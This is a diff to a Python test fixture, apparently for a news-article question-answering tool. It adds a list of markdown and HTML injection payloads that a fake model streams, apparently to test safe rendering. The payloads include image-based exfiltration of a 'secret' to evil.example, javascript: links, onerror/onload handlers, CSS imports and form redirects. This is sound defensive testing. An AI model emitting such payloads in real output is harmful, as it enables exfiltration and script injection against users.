@@ -95,6 +95,18 @@ HOSTILE_ANSWER = Answer(
     citations=(citation(1, HOSTILE, HOSTILE_TEXT),),
     notes=(HOSTILE_TEXT,),
 )
+SMUGGLING = (
+    "![x](http://evil.example/1.png?q=secret)",
+    "[![x](http://evil.example/2.png)](http://evil.example/2)",
+    "![x][ref]\n\n[ref]: http://evil.example/3.png",
+    "[click](javascript:document.title=6) [click](data:text/html,x) [click](//evil.example)",
+    "http://evil.example/4 <http://evil.example/5> www.evil.example",
+    "<img src=http://evil.example/6.png onerror=document.title=7>",
+    "<a href='javascript:document.title=8'>x</a><svg/onload=document.title=9><iframe src=http://evil.example/7></iframe>",
+    "<style>@import 'http://evil.example/8';*{background:url(http://evil.example/9)}</style><base href=http://evil.example>",
+    "<form action=http://evil.example><button data-ask=x>Ask</button></form><meta http-equiv=refresh content=0>",
+    "${document.title=10} {{document.title}} <script>document.title=11</script> &lt;img src=http://evil.example/10&gt;",
+)
 NOT_FOUND = "[not found in the articles]"
 TAKEN = "Opposition forces took Hama on Thursday."
 INVENTED = "They lost 12 men."
@@ -185,6 +197,9 @@ class CannedChain:
         if "fail" in question:
             yield "Half of an answer"
             raise LanguageModelError("The model at http://127.0.0.1:9 does not answer. Start it, or unset --model.")
+        if "smuggle" in question:
+            yield from self._smuggled(question)
+            return
         if "history" in question:
             yield Answer(question, question, f"{len(history)} answers came before.", self.answerer)
             return
@@ -198,6 +213,14 @@ class CannedChain:
         for number in range(60):
             yield f"Sentence number {number} of a slow answer.\n"
             time.sleep(0.1)
+
+    def _smuggled(self, question: str) -> Iterator[str | Answer]:
+        text = "\n".join(SMUGGLING)
+        for at in range(0, len(text), 9):
+            yield text[at : at + 9]
+            time.sleep(0.01)
+        unfound = tuple(statement(text, said, Verdict.UNFOUND, missing=said) for said in SMUGGLING)
+        yield Answer(question, text, text, "openai:canned", statements=unfound, draft=text, notes=SMUGGLING)
 
     def _answer(self, question: str) -> Answer:
         for answer in (KHERSON_ANSWER, WRITTEN_ANSWER, PROVEN_ANSWER, DRAFT_ANSWER):
